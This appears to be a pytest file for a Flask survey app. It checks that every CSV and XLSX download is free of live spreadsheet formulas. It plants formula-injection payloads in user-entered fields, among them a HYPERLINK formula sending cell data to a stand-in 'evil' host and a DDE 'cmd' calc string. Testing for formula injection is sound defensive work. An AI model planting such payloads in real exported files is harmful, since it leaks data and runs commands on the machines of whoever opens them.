"""Can any file SIPAS hands out run a formula when opened in a spreadsheet?

Every download route of the app is listed here (a route that serves a file but is missing
from the lists fails the test). Words that people chose are planted with formula leaders —
ASCII and fullwidth — in a desk's name and agency, a hamlet's name, an enumerator's name
and a citizen's comment. Then every spreadsheet download is read back cell by cell.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlmodel import Session, select

from survey.models import AdminUnit, Answer, Desk, Response, User
from survey.models_desk import DeskContact
from survey.services.data.uploads import TEMPLATES
from survey.services.demo import build_demo
from tests import factories
from tests.support import sign_in

PASSWORD = "mật khẩu đủ dài 1"
PLANTED = ['=HYPERLINK("http://evil/"&A1,"x")', "＝1+1", "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
           "－2+3", "\t=1"]
SPREADSHEETS = {
    "sample.lists_csv": ["/sample/2025/fieldwork.csv"],
    "desks.contacts": ["/desks/contacts.csv"],
    "reports.download": [f"/reports/exports/download?format={f}&with_comments=1&status={s}"
                         for f in ("csv", "xlsx") for s in ("verified", "received")],
    "uploads.template": [f"/uploads/templates/{n}.{f}" for n in TEMPLATES for f in ("csv", "xlsx")],
}
NOT_SPREADSHEETS = {"sample.lists_pdf", "desks.qr", "reports.report", "static"}
LEADERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "\u2212", "\ufe62", "\ufe63",
           "\ufe66")
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")
FILE_RULE = re.compile(r"\.(csv|pdf|xlsx)$|\.<|/download|/templates/")


@pytest.fixture
def planted(app: Flask) -> Flask:
    with Session(app.extensions["sipas_engine"]) as session:
        factories.published(session)
        build_demo(session, secret=b"s" * 32)
        factories.user(session, "supervisor", username="gs", password=PASSWORD)
        desk = session.exec(select(Desk)).first()
        assert desk is not None
        desk.name, desk.agency = PLANTED[0], PLANTED[1]
        hamlet = session.exec(select(AdminUnit).where(AdminUnit.households.is_not(None))  # type: ignore[union-attr]
                              ).first()
        assert hamlet is not None
        hamlet.name = PLANTED[2]
        for user in session.exec(select(User).where(User.role == "enumerator")):
            user.full_name = PLANTED[3]
        desk_response = session.exec(select(Response).where(Response.desk_id == desk.id)).first()
        paper = session.exec(select(Response).where(Response.mode == "paper")).all()
        assert desk_response is not None and paper
        targets = [desk_response, *paper[:3]]
        for response, text in zip(targets, PLANTED[2:], strict=False):
            answer = session.get(Answer, (response.id, "comment")) or Answer(
                response_id=response.id, item_code="comment")
            answer.value_text, answer.value_num = text, None
            session.add(answer)
        if session.get(DeskContact, desk_response.id) is None:
            session.add(DeskContact(response_id=desk_response.id, phone="0912345678"))
        session.add_all([desk, hamlet])
        session.commit()
    return app


def _cells(body: bytes, url: str) -> list[tuple[str, object, str]]:
    """(where, value, kind) of every cell; kind is "f" for an XLSX formula."""
    if "xlsx" in url:
        book = load_workbook(io.BytesIO(body))
        return [(f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
                for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
                if cell.value is not None]
    text = body.decode("utf-8-sig")
    return [(f"line {n}", value, "s") for n, row in enumerate(csv.reader(io.StringIO(text)), 1)
            for value in row]


def test_every_download_route_is_listed(app: Flask) -> None:
    serving_files = {rule.endpoint for rule in app.url_map.iter_rules()
                     if FILE_RULE.search(rule.rule)}
    unlisted = serving_files - set(SPREADSHEETS) - NOT_SPREADSHEETS
    assert not unlisted, f"download routes nobody checks for formulas: {sorted(unlisted)}"


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_no_spreadsheet_download_carries_a_live_formula(planted: Flask) -> None:
    client = sign_in(planted.test_client(), "gs", PASSWORD)
    seen_planted, problems = set(), []
    for endpoint, urls in SPREADSHEETS.items():
        for url in urls:
            reply = client.get(url)
            assert reply.status_code == 200, (endpoint, url, reply.status_code)
            for where, value, kind in _cells(reply.data, url):
                text = str(value)
                if kind == "f":
                    problems.append(f"{url} {where}: formula {text!r}")
                elif "xlsx" not in url and text.startswith(LEADERS) and not NUMBER.match(text):
                    problems.append(f"{url} {where}: {text!r} would run")
                seen_planted |= {p for p in PLANTED if p in text}
    assert not problems, "\n".join(problems[:20])
    # the desk's name and agency reach no spreadsheet (files carry the desk code); every other
    # planted value did reach one, so the check above really read them
    assert seen_planted >= set(PLANTED[2:]), f"never exported: {set(PLANTED[2:]) - seen_planted}"
